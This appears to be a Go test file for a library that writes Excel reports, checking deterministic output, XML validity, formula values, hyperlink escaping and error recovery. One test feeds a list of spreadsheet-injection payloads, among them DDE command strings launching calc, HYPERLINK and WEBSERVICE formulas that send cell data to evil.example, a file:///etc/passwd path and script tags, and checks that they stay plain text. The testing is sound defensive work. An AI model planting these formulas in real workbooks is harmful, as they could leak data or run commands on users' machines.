package write

import (
	"bytes"
	"encoding/xml"
	"errors"
	"flag"
	"fmt"
	"io"
	"math"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/shopspring/decimal"
	"github.com/xuri/excelize/v2"
)

var writtenTo = flag.String("written", "", "folder to keep the written workbooks in, to look at them")

func yes(s string) decimal.NullDecimal {
	return decimal.NewNullDecimal(decimal.RequireFromString(s))
}

// written runs write twice and returns the bytes, which must be the same.
func written(t *testing.T, name string, write func(io.Writer) error) []byte {
	t.Helper()
	var a, b bytes.Buffer
	if err := errors.Join(write(&a), write(&b)); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(a.Bytes(), b.Bytes()) {
		t.Errorf("%s: two runs wrote different bytes", name)
	}
	if *writtenTo != "" {
		if err := os.WriteFile(filepath.Join(*writtenTo, name), a.Bytes(), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return a.Bytes()
}

// opened opens a workbook with excelize, after every part of it has been found
// to be well-formed.
func opened(t *testing.T, data []byte) *excelize.File {
	t.Helper()
	parts, err := unpack(data)
	if err != nil {
		t.Fatal(err)
	}
	for name, part := range parts {
		d := xml.NewDecoder(bytes.NewReader(part))
		for {
			if _, err := d.Token(); err == io.EOF {
				break
			} else if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
		}
		if bytes.Contains(part, []byte("xuri")) {
			t.Errorf("%s names the library", name)
		}
	}
	if !bytes.Contains(parts["docProps/app.xml"], []byte("<Application>ziping</Application>")) {
		t.Error("the workbook does not say that ziping wrote it")
	}
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { f.Close() })
	return f
}

// rawRows are the values of a sheet as they are stored.
func rawRows(t *testing.T, f *excelize.File, sheet string) [][]string {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// checkFormulas calculates every formula and compares with the stored value.
func checkFormulas(t *testing.T, f *excelize.File) (formulas int) {
	t.Helper()
	for _, sheet := range f.GetSheetList() {
		for r, row := range rawRows(t, f, sheet) {
			for c, stored := range row {
				formula, err := f.GetCellFormula(sheet, cellRef(c, r+1))
				if err != nil {
					t.Fatal(err)
				}
				if formula == "" {
					continue
				}
				formulas++
				got, err := f.CalcCellValue(sheet, cellRef(c, r+1), excelize.Options{RawCellValue: true})
				if err != nil {
					t.Errorf("%s!%s: %s: %v", sheet, cellRef(c, r+1), formula, err)
				}
				x, errX := strconv.ParseFloat(got, 64)
				y, errY := strconv.ParseFloat(stored, 64)
				if errX != nil || errY != nil || math.Abs(x-y) > 1e-9*max(1, math.Abs(y)) {
					t.Errorf("%s!%s: %s is %s, stored %s", sheet, cellRef(c, r+1), formula, got, stored)
				}
			}
		}
	}
	return formulas
}

var hostileTexts = func() []string {
	texts := []string{
		"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
		`=cmd|' /C calc'!A0`, `=HYPERLINK("http://evil.example/?"&A1,"点我")`, `=IMPORTXML(CONCAT("http://evil.example"),"//a")`,
		`=WEBSERVICE("http://evil.example")`, `@=cmd`, `'=1+1`, `"=1+1"`, "{=1+1}", "=DDE(\"cmd\";\"/C calc\";\"x\")",
		"http://evil.example", "mailto:x@evil.example", "file:///etc/passwd", `\\evil.example\share`,
		"<script>alert(1)</script>", "</t></is></c>", "&amp;&#x3D;1", "]]>", "<hyperlinks>", "_x003D_1+1", "_x000D_",
		"a\x00b", "\x1b[31m", "\x0b\x0c\x1f", "\x7f\u0085", "\ufffe\uffff", "\xff\xfe坏", "金额\u202e00.001", "1\u200b2\ufeff3",
		"👨\u200d👩\u200d👧 𠮷", strings.Repeat("长", 40_000), strings.Repeat("x", 32_768), "&P&N", "", " ",
	}
	return texts
}()

func hostileRow(text string) ChecklistRow {
	return ChecklistRow{Severity: text, Rule: text, RuleTitle: text, File: text, Sheet: text, Cell: "B2", Got: text, Want: text,
		Message: text, Hint: text, Related: text, Waived: text}
}

// Whatever a text begins with, it is stored as text and leads nowhere.
func TestHostileTextStaysText(t *testing.T) {
	var r Rollup
	for _, text := range hostileTexts {
		r.Title += text
		r.Units = append(r.Units, RollupUnit{Name: text, Status: text, Report: text, ExecutionRate: yes("0.5")})
		r.Allotments = append(r.Allotments, RollupAllotment{Unit: text, Verdict: text})
		r.Findings = append(r.Findings, ChecklistUnit{Name: text, Dir: text, Rows: []ChecklistRow{hostileRow(text)}})
	}
	data := written(t, "hostile.xlsx", func(w io.Writer) error { return r.Write(w) })
	f := opened(t, data)
	checkFormulas(t, f)
	for i, text := range hostileTexts {
		for _, at := range []struct{ sheet, cell string }{
			{"汇总", cellRef(nameColumn, firstUnitRow+i)},
			{"资金核对", cellRef(verdictColumn, firstUnitRow+i)},
			{"问题清单", cellRef(gotColumn, 2+i)},
		} {
			kind, err := f.GetCellType(at.sheet, at.cell)
			if err != nil {
				t.Fatal(err)
			}
			formula, _ := f.GetCellFormula(at.sheet, at.cell)
			got, _ := f.GetCellValue(at.sheet, at.cell, excelize.Options{RawCellValue: true})
			if text != "" && at.sheet != "资金核对" && kind != excelize.CellTypeInlineString || formula != "" {
				t.Errorf("%q at %v: type %v, formula %q", text, at, kind, formula)
			}
			if at.sheet != "资金核对" && got != cellText(text) {
				t.Errorf("%q at %v became %q", text, at, got)
			}
		}
	}
}

func TestCellTextSaysWhatIsCut(t *testing.T) {
	got := cellText(strings.Repeat("长", 40_000))
	if want := strings.Repeat("长", maxCellText) + "……（原文共 40000 字，此处只列前 2000 字）"; got != want {
		t.Errorf("got %d bytes ending in %q", len(got), got[len(got)-60:])
	}
	if got := cellText(strings.Repeat("字", maxCellText)); strings.Contains(got, "原文") {
		t.Error("a text that fits is marked")
	}
}

func TestTargetURI(t *testing.T) {
	for in, want := range map[string]string{
		"高台县/表.xlsx":          "高台县/表.xlsx",
		"../a b/c#1%.xlsx":    "../a%20b/c%231%25.xlsx",
		"javascript:alert(1)": "javascript%3Aalert(1)",
		"a/b:c.xlsx":          "a/b:c.xlsx",
		"问?号[1].xlsx":         "问%3F号%5B1%5D.xlsx",
		"坏\xff\n.xlsx":        "坏%0A.xlsx",
	} {
		if got := targetURI(in); got != want {
			t.Errorf("targetURI(%q) = %q, want %q", in, got, want)
		}
	}
}

// A fault of the library is an error, and nothing is written.
func TestGenerateRecovers(t *testing.T) {
	var b bytes.Buffer
	err := generate(&b, "表", func(*outBook) { panic("broken") })
	if err == nil || !strings.Contains(err.Error(), "broken") || b.Len() > 0 {
		t.Errorf("got %v and %d bytes", err, b.Len())
	}
	err = generate(&b, "表", func(o *outBook) { o.add("a/b", nil) })
	if err == nil || b.Len() > 0 {
		t.Errorf("a bad sheet name: got %v and %d bytes", err, b.Len())
	}
}

func TestWrappedLines(t *testing.T) {
	for _, test := range []struct {
		text    string
		columns int
		want    int
	}{{"", 10, 1}, {"科普经费", 8, 1}, {"科普经费表", 8, 2}, {"abc\ndef", 10, 2}, {strings.Repeat("x", 21), 10, 3}} {
		if got := wrappedLines(test.text, test.columns); got != test.want {
			t.Errorf("wrappedLines(%q, %d) = %d, want %d", test.text, test.columns, got, test.want)
		}
	}
}

// links are the hyperlinks of a sheet part: cell to mode, target, location.
func links(t *testing.T, data []byte, sheet string) map[string]string {
	t.Helper()
	parts, err := unpack(data)
	if err != nil {
		t.Fatal(err)
	}
	var rels struct {
		Relationship []struct {
			ID     string `xml:"Id,attr"`
			Target string `xml:"Target,attr"`
			Mode   string `xml:"TargetMode,attr"`
		}
	}
	if part := parts["xl/worksheets/_rels/"+sheet+".rels"]; part != nil {
		if err := xml.Unmarshal(part, &rels); err != nil {
			t.Fatal(err)
		}
	}
	var ws struct {
		Hyperlinks struct {
			Hyperlink []struct {
				Ref      string `xml:"ref,attr"`
				ID       string `xml:"http://schemas.openxmlformats.org/officeDocument/2006/relationships id,attr"`
				Location string `xml:"location,attr"`
			} `xml:"hyperlink"`
		} `xml:"hyperlinks"`
	}
	if err := xml.Unmarshal(parts["xl/worksheets/"+sheet], &ws); err != nil {
		t.Fatal(err)
	}
	targets := map[string]string{}
	for _, r := range rels.Relationship {
		targets[r.ID] = r.Mode + " " + r.Target
	}
	out := map[string]string{}
	for _, l := range ws.Hyperlinks.Hyperlink {
		out[l.Ref] = fmt.Sprintf("%s#%s", targets[l.ID], l.Location)
	}
	return out
}

func diff(t *testing.T, what string, got, want any) {
	t.Helper()
	if d := cmp.Diff(got, want); d != "" {
		t.Errorf("%s (-got +want):\n%s", what, d)
	}
}
